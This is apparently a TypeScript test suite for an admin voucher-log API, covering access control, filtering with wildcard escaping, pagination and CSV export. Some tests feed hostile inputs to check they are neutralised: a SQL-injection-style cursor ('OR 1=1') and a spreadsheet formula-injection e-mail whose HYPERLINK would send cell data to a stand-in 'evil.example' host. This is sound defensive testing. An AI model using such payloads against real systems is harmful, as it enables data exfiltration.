import { voucherLogPageSchema } from '@ciao/contracts';
import type { ErrorBody, VoucherAction, VoucherLog, VoucherLogPage } from '@ciao/contracts';
import { runUsersCommand } from '../../src/cli/users-command';
import { csvCell } from '../../src/csv';
import { eraseUser, seedLogs, seedUser } from '../support/voucher-log-seed';
import type { SeedLog } from '../support/voucher-log-seed';
import { jsonOf, queryRows, signIn, testClock, useTestServer } from '../support/test-server';

const clock = testClock();
let adminCookie: string;
let memberCookie: string;
let adminId: string;

const ADMIN = { email: 'ada.admin@example.com', password: 'secret1', name: 'Ada Admin' };
const MEMBER = { email: 'max.member@example.com', password: 'secret1', name: 'Max Member' };

/** What the seeded rows should read as through the API, oldest first. */
type Expected = { id: string; voucherCode: string; userEmail: string | null; actionType: VoucherAction };
let seeded: Expected[] = [];

const server = useTestServer({ clock });
beforeAll(async () => {
  adminId = (await server.accounts.createUser({ ...ADMIN, role: 'owner' })).id;
  await server.accounts.createUser(MEMBER);
  adminCookie = await signIn(server, ADMIN);
  memberCookie = await signIn(server, MEMBER);

  const ann = await seedUser(server, 'ann@example.com');
  const bob = await seedUser(server, 'Bob@Example.com');
  const cid = await seedUser(server, 'cid@example.com');
  // Characters that mean something to LIKE, in e-mails the admin may search for.
  const dee = await seedUser(server, 'dee_1@example.org');
  const dex = await seedUser(server, 'deex1@example.org');
  const pct = await seedUser(server, '100%real@example.org');
  const steps: [string, string, VoucherAction][] = [
    ['CIAO-AAAAAA-000001', ann, 'generated'],
    ['CIAO-AAAAAA-000001', ann, 'used'],
    ['CIAO-BBBBBB-000002', bob, 'generated'],
    ['CIAO-AAAAAA-000003', ann, 'generated'],
    ['CIAO-BBBBBB-000002', bob, 'expired'],
    ['CIAO-CCCCCC-000004', cid, 'generated'],
    ['CIAO-CCCCCC-000004', cid, 'cancelled'],
    ['CIAO-AAAAAA-000003', ann, 'cancelled'],
    ['CIAO-BBBBBB-000005', bob, 'generated'],
    ['CIAO-BBBBBB-000005', bob, 'used'],
    ['CIAO-AAAAAA-000006', ann, 'generated'],
    ['CIAO-AAAAAA-000006', ann, 'expired'],
    ['CIAO-DDDDDD-000007', dee, 'generated'],
    ['CIAO-DDDDDD-000008', dex, 'generated'],
    ['CIAO-EEEEEE-000009', pct, 'generated'],
  ];
  const logs: SeedLog[] = steps.map(([voucherCode, userId, actionType], i) => ({
    voucherCode,
    userId,
    actionType,
    createdAt: new Date(Date.UTC(2026, 0, 1, 9, i)),
    shopifyDiscountId: `gid://shopify/DiscountCodeNode/${100 + i}`,
    ciaomarketsOrderId: actionType === 'used' ? `#${1000 + i}` : null,
  }));
  const ids = await seedLogs(server, logs);
  // cid deleted the account: the rows stay, pseudonymous.
  await eraseUser(server, cid);
  const emails = new Map([
    [ann, 'ann@example.com'],
    [bob, 'Bob@Example.com'],
    [cid, null],
    [dee, 'dee_1@example.org'],
    [dex, 'deex1@example.org'],
    [pct, '100%real@example.org'],
  ]);
  seeded = steps.map(([voucherCode, userId, actionType], i) => ({
    id: ids[i]!,
    voucherCode,
    userEmail: emails.get(userId) ?? null,
    actionType,
  }));
});

const get = (path: string, cookie?: string) => fetch(`${server.url}${path}`, { headers: cookie ? { cookie } : {} });
const logsUrl = (query: Record<string, string> = {}) => `/api/admin/voucher-logs?${new URLSearchParams(query)}`;
const csvUrl = (query: Record<string, string> = {}) => `/api/admin/voucher-logs.csv?${new URLSearchParams(query)}`;
const exportsRecorded = async () =>
  Number((await queryRows<{ n: string }>(server, 'SELECT count(*) AS n FROM voucher_log_exports'))[0]!.n);

/** Every page of a query, following nextCursor. */
async function allPages(query: Record<string, string>, limit: number): Promise<{ logs: VoucherLog[]; pages: number }> {
  const logs: VoucherLog[] = [];
  let cursor: string | null = null;
  let pages = 0;
  do {
    const response = await get(logsUrl({ ...query, limit: String(limit), ...(cursor ? { cursor } : {}) }), adminCookie);
    expect(response.status).toBe(200);
    const page: VoucherLogPage = voucherLogPageSchema.parse(await response.json());
    logs.push(...page.logs);
    cursor = page.nextCursor;
    pages += 1;
  } while (cursor);
  return { logs, pages };
}

/** The seeded rows a filter should return, newest first: part of the code and part of the e-mail, in any case, as typed. */
function matching(filter: { voucherCode?: string; userEmail?: string; actionType?: VoucherAction }): Expected[] {
  return seeded
    .filter(
      (log) =>
        filter.voucherCode === undefined || log.voucherCode.toUpperCase().includes(filter.voucherCode.toUpperCase()),
    )
    .filter(
      (log) =>
        filter.userEmail === undefined ||
        (log.userEmail !== null && log.userEmail.toLowerCase().includes(filter.userEmail.toLowerCase())),
    )
    .filter((log) => filter.actionType === undefined || log.actionType === filter.actionType)
    .reverse();
}

const summary = (log: VoucherLog | Expected): Expected => ({
  id: log.id,
  voucherCode: log.voucherCode,
  userEmail: log.userEmail,
  actionType: log.actionType,
});

/** RFC 4180 rows of a CSV text (quoted cells, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) throw new Error('the CSV does not end with CRLF');
  return rows;
}

const CSV_HEADER = ['Date', 'Code', 'User e-mail', 'Action', 'USD', '$CIAO', 'Shopify discount id', 'Order id'];

describe('who may use /api/admin', () => {
  const routes = [
    '/api/admin/voucher-logs',
    '/api/admin/voucher-logs.csv',
    '/api/admin/voucher-logs?actionType=bogus',
    '/api/admin/no-such-route',
  ];

  it.each(routes)('when nobody is signed in, then %s answers 401', async (path) => {
    const response = await get(path);
    expect(response.status).toBe(401);
    expect(await response.json()).toEqual({ message: 'Not authenticated' });
  });

  it.each(routes)(
    'when a signed-in user is not an admin, then %s answers 403 and nothing is exported',
    async (path) => {
      const before = await exportsRecorded();
      const response = await get(path, memberCookie);
      expect(response.status).toBe(403);
      expect(await response.json()).toEqual({ message: 'Admin access required' });
      expect(await exportsRecorded()).toBe(before);
    },
  );

  it('when an admin asks, then both routes answer 200 and an unknown admin path 404', async () => {
    expect((await get('/api/admin/voucher-logs', adminCookie)).status).toBe(200);
    const csv = await get('/api/admin/voucher-logs.csv', adminCookie);
    expect(csv.status).toBe(200);
    await csv.arrayBuffer();
    expect((await get('/api/admin/no-such-route', adminCookie)).status).toBe(404);
  });

  it('when the CLI grants then revokes the role, then the same session gets 200 then 403', async () => {
    const noPassword = () => Promise.reject(new Error('granting a role reads no password'));
    expect(
      await runUsersCommand(['grant-role', '--email', MEMBER.email, '--role', 'viewer'], server.accounts, noPassword),
    ).toBe(`${MEMBER.email} is now viewer`);
    expect((await get('/api/admin/voucher-logs', memberCookie)).status).toBe(200);
    await runUsersCommand(['revoke-role', '--email', MEMBER.email], server.accounts, noPassword);
    expect((await get('/api/admin/voucher-logs', memberCookie)).status).toBe(403);
  });

  it("when an admin's role is revoked in the database behind the session cache's back, then the next admin request is refused", async () => {
    const ops = { email: 'olga.ops@example.com', password: 'secret1', name: 'Olga Ops' };
    await server.accounts.createUser({ ...ops, role: 'owner' });
    const cookie = await signIn(server, ops);
    expect((await get('/api/admin/voucher-logs', cookie)).status).toBe(200); // the session is now cached

    // No NOTIFY reaches the cache: the change feed's trigger is off while the role changes.
    await server.database.sequelize.query('ALTER TABLE users DISABLE TRIGGER users_notify_user_changed');
    try {
      await server.database.sequelize.query("UPDATE users SET role = 'user' WHERE email = $1", { bind: [ops.email] });
    } finally {
      await server.database.sequelize.query('ALTER TABLE users ENABLE TRIGGER users_notify_user_changed');
    }
    // The cached session still says admin (what the guard used to trust)...
    const session = await jsonOf<{ user: { role: string } }>(await get('/api/auth/session', cookie));
    expect(session.user.role).toBe('owner');
    // ...yet both admin routes read the role afresh.
    for (const path of ['/api/admin/voucher-logs', '/api/admin/voucher-logs.csv']) {
      const response = await get(path, cookie);
      expect(response.status).toBe(403);
      expect(await jsonOf<ErrorBody>(response)).toEqual({ message: 'Admin access required' });
    }
  });
});

describe('GET /api/admin/voucher-logs', () => {
  it('when unfiltered, then every row comes newest first with the user e-mail from the account, and one page holds them all', async () => {
    const response = await get(logsUrl(), adminCookie);
    expect(response.status).toBe(200);
    const page = voucherLogPageSchema.parse(await response.json());
    expect(page.nextCursor).toBeNull();
    expect(page.logs.map(summary)).toEqual(matching({}));
    expect(page.logs.find((log) => log.id === seeded[1]!.id)).toEqual({
      id: seeded[1]!.id,
      createdAt: '2026-01-01T09:01:00.000Z',
      voucherCode: 'CIAO-AAAAAA-000001',
      userEmail: 'ann@example.com',
      actionType: 'used',
      amountUsd: '2.50',
      amountCiao: '735294.1176470588',
      shopifyDiscountId: 'gid://shopify/DiscountCodeNode/101',
      ciaomarketsOrderId: '#1001',
    });
  });

  it('when the account behind a row was deleted, then its rows stay with no e-mail and its old e-mail finds nothing', async () => {
    const { logs } = await allPages({ voucherCode: 'CIAO-CCCCCC-000004' }, 50);
    expect(logs.map((log) => [log.actionType, log.userEmail])).toEqual([
      ['cancelled', null],
      ['generated', null],
    ]);
    expect((await allPages({ userEmail: 'cid@example.com' }, 50)).logs).toEqual([]);
  });

  const filters: [string, Record<string, string>][] = [
    ['no filter', {}],
    ['a code', { voucherCode: 'CIAO-AAAAAA-000001' }],
    ['a code typed in lower case with spaces', { voucherCode: '  ciao-bbbbbb-000002 ' }],
    ['an unknown code', { voucherCode: 'CIAO-ZZZZZZ-999999' }],
    ['a user e-mail', { userEmail: 'ann@example.com' }],
    ['a user e-mail in another case', { userEmail: 'BOB@example.COM' }],
    ['an e-mail with no account', { userEmail: 'nobody@example.com' }],
    ['part of a code', { voucherCode: 'aaaa' }],
    ['part of a code across its groups', { voucherCode: 'b-00000' }],
    ['part of an e-mail', { userEmail: 'BOB@' }],
    ['the domain of several e-mails', { userEmail: 'example.COM' }],
    ['an underscore, which LIKE reads as any character', { userEmail: 'dee_' }],
    ['a lone underscore', { userEmail: '_' }],
    ['a percent sign, which LIKE reads as anything', { userEmail: '100%r' }],
    ['a lone percent sign', { voucherCode: '%' }],
    ['a backslash, the escape character', { userEmail: '\\' }],
    ...(['generated', 'used', 'expired', 'cancelled'] as const).map((actionType): [string, Record<string, string>] => [
      `action ${actionType}`,
      { actionType },
    ]),
    ['e-mail and action', { userEmail: 'ann@example.com', actionType: 'generated' }],
    ['code and action', { voucherCode: 'CIAO-BBBBBB-000002', actionType: 'expired' }],
    ['code and the e-mail of someone else', { voucherCode: 'CIAO-AAAAAA-000001', userEmail: 'bob@example.com' }],
    [
      'code, e-mail and action',
      { voucherCode: 'CIAO-BBBBBB-000005', userEmail: 'bob@example.com', actionType: 'used' },
    ],
    ['empty fields (a plain form)', { voucherCode: '', userEmail: ' ', actionType: '' }],
  ];

  it.each(filters)(
    'when filtered by %s, then exactly the matching rows come back, newest first, over pages of 2 as over one page',
    async (_name, query) => {
      const expected = matching({
        voucherCode: query.voucherCode?.trim() || undefined,
        userEmail: query.userEmail?.trim() || undefined,
        actionType: (query.actionType || undefined) as VoucherAction | undefined,
      });
      const whole = await allPages(query, 50);
      expect(whole.logs.map(summary)).toEqual(expected);
      const paged = await allPages(query, 2);
      expect(paged.logs.map(summary)).toEqual(expected);
      expect(paged.pages).toBe(Math.max(1, Math.ceil(expected.length / 2)));
    },
  );

  it('the fixture behind the table above holds every action and several rows per combined filter', () => {
    expect(new Set(seeded.map((log) => log.actionType))).toEqual(
      new Set(['generated', 'used', 'expired', 'cancelled']),
    );
    expect(matching({ userEmail: 'ann@example.com', actionType: 'generated' })).toHaveLength(3);
    // LIKE's wildcards would find more: 'dee_' also deex1, '100%r' nothing else here but '%' every code.
    expect(matching({ userEmail: 'dee_' }).map((log) => log.userEmail)).toEqual(['dee_1@example.org']);
    expect(matching({ voucherCode: '%' })).toEqual([]);
  });

  it.each([
    [{ actionType: 'bogus' }, 'actionType'],
    [{ actionType: 'USED' }, 'actionType'],
    [{ limit: '0' }, 'limit'],
    [{ limit: '201' }, 'limit'],
    [{ limit: 'ten' }, 'limit'],
    [{ cursor: 'not-a-cursor' }, 'cursor'],
    [{ cursor: Buffer.from('before:1 OR 1=1').toString('base64url') }, 'cursor'],
    [{ voucherCode: 'X'.repeat(65) }, 'voucherCode'],
    [{ sort: 'oldest' }, 'sort'],
  ])('when the query is %p, then 400 naming %s', async (query, field) => {
    const response = await get(logsUrl(query as Record<string, string>), adminCookie);
    expect(response.status).toBe(400);
    const body = await jsonOf<ErrorBody>(response);
    expect(body.message).toBe('Invalid request');
    expect(Object.keys(body.fields ?? {})).toEqual([field]);
  });

  it('when a filter is repeated, then 400 rather than a guess', async () => {
    const response = await get('/api/admin/voucher-logs?actionType=used&actionType=expired', adminCookie);
    expect(response.status).toBe(400);
    expect((await jsonOf<ErrorBody>(response)).fields).toEqual({ actionType: expect.any(String) });
  });
});

describe('GET /api/admin/voucher-logs.csv', () => {
  it('when exported unfiltered, then the file holds the header and every row, as the JSON reads them, and the export is recorded', async () => {
    const response = await get(csvUrl(), adminCookie);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="voucher-logs-20260115-120000.csv"');
    expect(response.headers.get('cache-control')).toBe('no-store');
    const rows = parseCsv(await response.text());
    expect(rows[0]).toEqual(CSV_HEADER);
    const { logs } = await allPages({}, 50);
    expect(rows.slice(1)).toEqual(
      logs.map((log) => [
        log.createdAt,
        log.voucherCode,
        log.userEmail ?? '',
        log.actionType,
        log.amountUsd,
        log.amountCiao,
        log.shopifyDiscountId ?? '',
        log.ciaomarketsOrderId ?? '',
      ]),
    );
    const [recorded] = await queryRows(
      server,
      'SELECT admin_user_id, created_at, filter, row_count FROM voucher_log_exports ORDER BY id DESC LIMIT 1',
    );
    expect(recorded).toEqual({ admin_user_id: adminId, created_at: clock.now(), filter: {}, row_count: seeded.length });
  });

  it.each(filters())(
    'when exported with %s, then exactly the matching rows, newest first, and the filter is recorded',
    async (_name, query, recordedFilter) => {
      const response = await get(csvUrl(query), adminCookie);
      expect(response.status).toBe(200);
      const rows = parseCsv(await response.text());
      expect(rows[0]).toEqual(CSV_HEADER);
      const expected = matching(recordedFilter);
      expect(
        rows.slice(1).map(([, voucherCode, userEmail, actionType]) => [voucherCode, userEmail, actionType]),
      ).toEqual(expected.map((log) => [log.voucherCode, log.userEmail ?? '', log.actionType]));
      const [recorded] = await queryRows(
        server,
        'SELECT admin_user_id, filter, row_count FROM voucher_log_exports ORDER BY id DESC LIMIT 1',
      );
      expect(recorded).toEqual({ admin_user_id: adminId, filter: recordedFilter, row_count: expected.length });
    },
  );

  function filters(): [
    string,
    Record<string, string>,
    { voucherCode?: string; userEmail?: string; actionType?: VoucherAction },
  ][] {
    return [
      ['an action', { actionType: 'used' }, { actionType: 'used' }],
      [
        'a user e-mail and an action',
        { userEmail: ' ANN@example.com ', actionType: 'generated' },
        { userEmail: 'ANN@example.com', actionType: 'generated' },
      ],
      ['a code in lower case', { voucherCode: 'ciao-aaaaaa-000003' }, { voucherCode: 'CIAO-AAAAAA-000003' }],
      ['part of a code', { voucherCode: 'bbbb' }, { voucherCode: 'BBBB' }],
      ['part of an e-mail with a literal underscore', { userEmail: 'dee_' }, { userEmail: 'dee_' }],
      [
        'a filter that matches nothing',
        { voucherCode: 'CIAO-AAAAAA-000001', actionType: 'expired' },
        { voucherCode: 'CIAO-AAAAAA-000001', actionType: 'expired' },
      ],
    ];
  }

  it('when the action type is bad, then 400 JSON and no export is recorded', async () => {
    const before = await exportsRecorded();
    const response = await get(csvUrl({ actionType: 'refunded' }), adminCookie);
    expect(response.status).toBe(400);
    expect(await jsonOf<ErrorBody>(response)).toEqual({
      message: 'Invalid request',
      fields: { actionType: 'Expected one of: generated, used, expired, cancelled' },
    });
    expect(await exportsRecorded()).toBe(before);
  });

  it('when a user e-mail or a code begins with a formula character, then the cell is escaped so a spreadsheet shows it as text', async () => {
    const evilEmail = '=HYPERLINK("https://evil.example/?"&A1)@example.com';
    const evil = await seedUser(server, evilEmail);
    const plus = await seedUser(server, '+1-555@example.com');
    await seedLogs(server, [
      { voucherCode: '=1+1', userId: evil, actionType: 'generated', createdAt: new Date('2026-01-02T00:00:00Z') },
      {
        voucherCode: '@SUM(A1:A9)',
        userId: plus,
        actionType: 'generated',
        createdAt: new Date('2026-01-02T00:01:00Z'),
        ciaomarketsOrderId: '-2+3',
      },
    ]);

    const byEmail = await (await get(csvUrl({ userEmail: evilEmail }), adminCookie)).text();
    expect(byEmail.split('\r\n')[1]).toContain(
      `,"'=1+1","'=HYPERLINK(""https://evil.example/?""&A1)@example.com","generated",`,
    );
    const byPlus = parseCsv(await (await get(csvUrl({ userEmail: '+1-555@example.com' }), adminCookie)).text());
    expect(byPlus[1]).toEqual([
      expect.any(String),
      "'@SUM(A1:A9)",
      "'+1-555@example.com",
      'generated',
      '2.50',
      '735294.1176470588',
      '',
      "'-2+3",
    ]);
  });
});

describe('CSV cells', () => {
  it.each(['=', '+', '-', '@', '\t', '\r'])(
    'when a cell begins with %j, then it gets a leading apostrophe',
    (start) => {
      expect(csvCell(`${start}cmd`)).toBe(`"'${start}cmd"`);
    },
  );

  it('when a cell holds quotes, commas or line breaks, then it is quoted with its quotes doubled', () => {
    expect(csvCell('a "b", c\nd')).toBe('"a ""b"", c\nd"');
    expect(csvCell('plain=fine')).toBe('"plain=fine"');
    expect(csvCell(null)).toBe('""');
  });
});
